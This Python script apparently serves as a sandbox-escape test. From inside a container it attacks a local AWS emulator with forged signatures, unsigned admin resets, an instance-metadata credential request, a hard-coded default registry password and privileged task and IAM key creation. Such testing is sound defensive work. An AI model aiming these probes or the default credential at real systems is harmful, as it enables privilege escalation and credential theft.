"""Attack MiniStack from inside a task's container, and print the outcome of each attempt as JSON.

It runs with the container's Python, which has botocore: `docker exec --interactive CONTAINER python3 - URL < this`.
"""

import json
import re
import sys
import urllib.error
import urllib.request

from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from botocore.session import Session

URL = sys.argv[1]
TARGETS = {"ecs": "AmazonEC2ContainerServiceV20141113", "ecr": "AmazonEC2ContainerRegistry_V20150921"}


def send(method: str, path: str, headers: dict[str, str] | None = None, body: bytes = b"{}") -> str:
    """Send a request; return the error code of the response, its status if there is none, or `succeeded`."""
    sent = urllib.request.Request(URL + path, None if method == "GET" else body, headers or {}, method=method)  # noqa: S310  # http
    try:
        with urllib.request.urlopen(sent, timeout=10):  # noqa: S310  # http
            return "succeeded"
    except urllib.error.HTTPError as error:
        with error:
            code = re.search(r'"__type": *"(?:.*#)?(\w+)"|<Code>(\w+)</Code>', error.read().decode())
        return (code[1] or code[2]) if code else str(error.code)


def call(service: str, operation: str, body: str, key: tuple[str, str] | None = None) -> str:
    """Make a call signed with a key, or with the credentials of the task."""
    credentials = Credentials(*key) if key else Session().get_credentials()
    assert credentials is not None
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    if target := TARGETS.get(service):
        headers = {"Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": f"{target}.{operation}"}
    request = AWSRequest("POST", f"{URL}/", headers=headers, data=body.encode())
    SigV4Auth(credentials, service, "us-west-2").add_auth(request)
    return send("POST", "/", dict(request.headers.items()), body.encode())


CONTAINER = {"name": "attack", "image": "debian", "privileged": True}
DEFINITION = json.dumps({"family": "attack", "containerDefinitions": [CONTAINER]})
ECS = {"X-Amz-Target": f"{TARGETS['ecs']}.ListClusters", "Content-Type": "application/x-amz-json-1.1"}
FORGED = {"Authorization": "AWS4-HMAC-SHA256 Credential=x/20260101/us-west-2/ecs/aws4_request, SignedHeaders=host"}
OLD_LOGIN = {"Authorization": "Basic QVdTOm1pbmlzdGFjay1hdXRoLXRva2Vu"}  # the same in every MiniStack

outcomes = {
    "unsigned call": send("POST", "/", ECS),
    "unsigned call of a web page": send("POST", "/", {**ECS, "Origin": "http://evil.example"}),
    "reset": send("POST", "/_ministack/reset"),
    "reset with a forged signature": send("POST", "/_ministack/reset", FORGED),
    "settings with a forged signature": send("POST", "/_ministack/config", FORGED),
    "credentials of an instance": send("GET", "/latest/meta-data/iam/security-credentials/", FORGED),
    "push": send("POST", "/v2/attack/blobs/uploads/"),
    "push with MiniStack's own password": send("POST", "/v2/attack/blobs/uploads/", OLD_LOGIN),
    "RegisterTaskDefinition by the task role": call("ecs", "RegisterTaskDefinition", DEFINITION),
    "RunTask by the task role": call("ecs", "RunTask", json.dumps({"taskDefinition": "attack"})),
    "GetAuthorizationToken by the task role": call("ecr", "GetAuthorizationToken", "{}"),
    "CreateAccessKey by the task role": call("iam", "CreateAccessKey", "Action=CreateAccessKey&Version=2010-05-08"),
    "key test": call("ecs", "RegisterTaskDefinition", DEFINITION, ("test", "test")),
    "number of the account": call("ecs", "RegisterTaskDefinition", DEFINITION, ("000000000000", "test")),
    "unknown key": call("ecs", "RegisterTaskDefinition", DEFINITION, ("AKIAATTACKATTACK0000", "test")),
}
print(json.dumps(outcomes))  # noqa: T201  # the output of this program
